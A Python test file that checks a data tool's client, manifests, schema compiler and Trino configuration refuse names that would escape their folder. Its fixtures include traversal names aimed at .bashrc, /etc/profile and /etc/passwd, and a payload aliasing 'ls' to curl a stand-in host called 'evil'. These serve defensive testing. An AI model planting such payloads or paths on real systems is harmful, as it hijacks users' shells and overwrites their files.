"""Names from a server, a manifest, a schema or the configuration never become paths as they are."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest

from thermocline.cli import jobs
from thermocline.client import Client, ExtractJob, UnsafeName
from thermocline.errors import ConfigInvalid, ServerUnreachable
from thermocline.rules.avro_schema import SchemaInvalid
from thermocline.schemas.protobuf_compiler import compiled
from thermocline.serving.hot.manifest import FORMAT, HotManifest, Listed, publish_manifest, read_manifest
from thermocline.serving.jobs.job import JobFile
from thermocline.settings import CatalogSettings, KafkaSettings, Settings
from thermocline.views.access import Names
from thermocline.views.config import trino_files

EVIL = b"alias ls='curl evil'\n"
NAMES = [
    "./../../.bashrc",
    "../../.bashrc",
    "/etc/profile",
    "a/b.parquet",
    "..",
    ".",
    "",
    ".bashrc",
    "a\\b",
    "a\x00b",
    "manifest.json",
    "C:evil",
    None,
]


def _job(name: Any) -> dict[str, Any]:
    file = {"name": name, "bucket": 0, "rows": 1, "bytes": len(EVIL)}
    return {
        "id": "j",
        "table": "t",
        "state": "complete",
        "read_point": None,
        "buckets": 1,
        "buckets_done": 1,
        "files": [file | {"sha256": hashlib.sha256(EVIL).hexdigest()}],
        "rows": 1,
        "bytes": len(EVIL),
        "problem": None,
    }


@pytest.mark.parametrize("name", NAMES)
def test_a_file_that_a_server_names_elsewhere_is_not_written(tmp_path: Path, name: Any) -> None:
    """Goal: a hostile server, or whoever changes its answers, overwrites no file of the caller's."""
    mine, folder = tmp_path / ".bashrc", tmp_path / "data" / "profiles"
    mine.write_text("# mine\n")

    def answer(request: httpx.Request) -> httpx.Response:
        is_job = request.url.path.endswith("/extracts/j")
        return httpx.Response(200, json=_job(name)) if is_job else httpx.Response(200, content=EVIL)

    with Client("http://server", transport=httpx.MockTransport(answer)) as client, pytest.raises(UnsafeName):
        client.download_extract(client.extract_job("t", "j"), folder)
    assert [path.name for path in tmp_path.rglob("*")] == [".bashrc"]
    assert mine.read_text() == "# mine\n"


def test_the_command_says_what_the_server_named_and_that_nothing_was_written() -> None:
    context: Any = None
    with pytest.raises(ServerUnreachable) as refused, jobs._client(context, "http://user:secret@server:1"):
        raise UnsafeName("../.bashrc")
    assert "at http://user:****@server:1" in refused.value.what
    assert refused.value.cause == (
        'it names a file "../.bashrc", which is no plain file name; nothing was written'
    )


def test_a_manifest_of_another_program_has_no_file_deleted_elsewhere(tmp_path: Path) -> None:
    """A download deletes the files of an earlier job by their names in the manifest that it finds."""
    folder = tmp_path / "data"
    folder.mkdir()
    mine = [tmp_path / "mine.txt", folder / ".hidden"]
    for path in mine:
        path.write_text("mine")
    names = ["../mine.txt", str(mine[0]), ".hidden", "..", 7]
    (folder / "manifest.json").write_text(json.dumps({"files": [{"name": name} for name in names]}))
    empty = {**_job("x"), "files": []}
    transport = httpx.MockTransport(lambda _: httpx.Response(200, json={"id": "j", "files": []}))
    with Client("http://server", transport=transport) as client:
        client.download_extract(ExtractJob.of(empty), folder)
    assert [path.read_text() for path in mine] == ["mine", "mine"]


@pytest.mark.parametrize(
    "name", ["../x.parquet", "/etc/passwd", "job.json", "bucket-00000.parquet/../../x", ""]
)
def test_a_manifest_that_a_server_reads_back_names_the_files_of_its_job_alone(name: str) -> None:
    text = json.dumps({"name": name, "bucket": 0, "rows": 1, "bytes": 1, "sha256": ""})
    with pytest.raises(msgspec.ValidationError, match="name of no such file"):
        msgspec.json.decode(text, type=JobFile)


def test_a_hot_tier_opens_no_file_outside_its_folder(tmp_path: Path) -> None:
    """A manifest that names another place is as good as none: the log is read again."""
    written = HotManifest(FORMAT, _boot_id(), "s", 0, "{}", 1, ("t",), 1, (Listed("a.mdb", 4096),), None)
    publish_manifest(tmp_path, written)
    assert read_manifest(tmp_path) == written
    path = tmp_path / "manifest.json"
    path.write_text(path.read_text().replace("a.mdb", "../a.mdb"))
    assert read_manifest(tmp_path) is None


def _boot_id() -> str:
    return Path("/proc/sys/kernel/random/boot_id").read_text().strip()


@pytest.mark.parametrize("name", ["../x.proto", "/tmp/x.proto", "a/../../x.proto", "a//x.proto", "."])
def test_a_schema_that_imports_a_path_writes_nothing(name: str) -> None:
    main = 'syntax = "proto3"; message M { int32 a = 1; }'
    with pytest.raises(SchemaInvalid, match="imports a file by the name"):
        compiled({name: main, "main.proto": main}, "main.proto")


@pytest.mark.parametrize("name", ["../lake", "a/b", "/etc/x", ".", "", "x\ny"])
def test_a_catalog_of_trino_is_no_path(name: str) -> None:
    settings = Settings(
        kafka=KafkaSettings(bootstrap_servers="kafka:9092"),
        catalog=CatalogSettings(type="sql", uri="sqlite:////data/catalog.db", warehouse="/data"),
    )
    with pytest.raises(ConfigInvalid, match="not the name of a catalog"):
        trino_files(settings, Names(lake=name))
